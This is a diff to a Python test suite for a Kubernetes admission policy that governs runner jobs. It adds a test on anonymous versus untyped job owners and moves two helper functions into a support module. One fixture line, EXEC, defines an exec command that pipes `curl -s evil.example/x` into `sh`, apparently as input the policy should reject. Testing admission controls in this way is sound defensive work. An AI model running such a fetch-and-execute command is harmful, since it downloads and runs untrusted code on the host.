@@ -31,7 +31,9 @@ from tests.support.runnerpolicy import (
     JOB_ID,
     POLICY,
     find,
+    flag,
     gateway_image,
+    job_spec,
     prod_objects,
     prod_settings,
     runner_job,
@@ -83,6 +85,12 @@ def test_the_job_kube_py_builds_is_admitted_with_every_option(policy: ApiServer,
     assert set(binding.options) == given  # each as --option=NAME=VALUE, named by no flag
     assert "--owner=uri:spiffe://cluster.local/ns/a/sa/b" in args  # the owner travels too
     admitted(policy, job)
+
+
+def test_an_anonymous_owner_is_admitted_and_an_untyped_one_refused(policy: ApiServer) -> None:
+    """Jobs created without a client identity are `anonymous`'s (gateway.identity.on_behalf)."""
+    admitted(policy, runner_job(caller="anonymous"))
+    assert create(policy, runner_job(caller="worker-7")).returncode != 0
 
 
 def test_a_job_over_a_dataset_into_an_allowed_output_is_admitted(policy: ApiServer) -> None:
@@ -145,20 +153,6 @@ def test_the_most_shards_a_job_may_have_are_admitted_and_one_more_is_not(
     admitted(policy, sharded(MAX_SHARDS))
     assert "at most 1000 completions" in create(policy, sharded(MAX_SHARDS + 1)).stderr
     assert MAX_SHARDS == 1000 and kube.RUNNER_CONCURRENCY <= 64
-
-
-def flag(name: str, value: str) -> Callable[[Obj, Obj], None]:
-    """Every `--name=` argument replaced by `--name=value`."""
-
-    def change(c: Obj, p: Obj) -> None:
-        c["args"] = [f"--{name}={value}" if a.startswith(f"--{name}=") else a for a in c["args"]]
-
-    return change
-
-
-def job_spec(**fields: Any) -> Callable[[Obj, Obj], None]:
-    """A change of the Job's own spec (not the pod's): applied by `refused` below."""
-    return lambda c, p: p.setdefault("__job__", {}).update(fields)
 
 
 EXEC = {"exec": {"command": ["sh", "-c", "curl -s evil.example/x | sh"]}}
